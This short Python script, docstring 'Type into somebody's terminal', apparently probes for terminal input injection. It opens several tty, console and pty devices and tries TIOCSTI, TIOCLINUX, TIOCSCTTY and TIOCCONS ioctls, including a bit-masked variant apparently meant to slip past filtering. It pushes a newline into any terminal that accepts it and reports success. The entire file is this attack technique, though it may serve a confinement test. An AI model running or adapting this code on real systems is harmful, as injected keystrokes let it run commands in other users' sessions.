"""Type into somebody's terminal."""

import fcntl
import os

TIOCSTI, TIOCLINUX, TIOCSCTTY, TIOCCONS = 0x5412, 0x541C, 0x540E, 0x541D


def attack():
    held = list(range(5))
    for name in ("/dev/tty", "/dev/console", "/dev/tty1", "/dev/pts/0", "/dev/ptmx"):
        try:
            held.append(os.open(name, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK))
        except OSError:
            continue
    for descriptor in held:
        for request in (TIOCSTI, TIOCSTI | 1 << 32, TIOCLINUX, TIOCSCTTY, TIOCCONS):
            try:
                fcntl.ioctl(descriptor, request & 0xFFFFFFFF, b"\n")
            except (OSError, OverflowError):
                continue
            return f"request {request:#x} on descriptor {descriptor} was done"
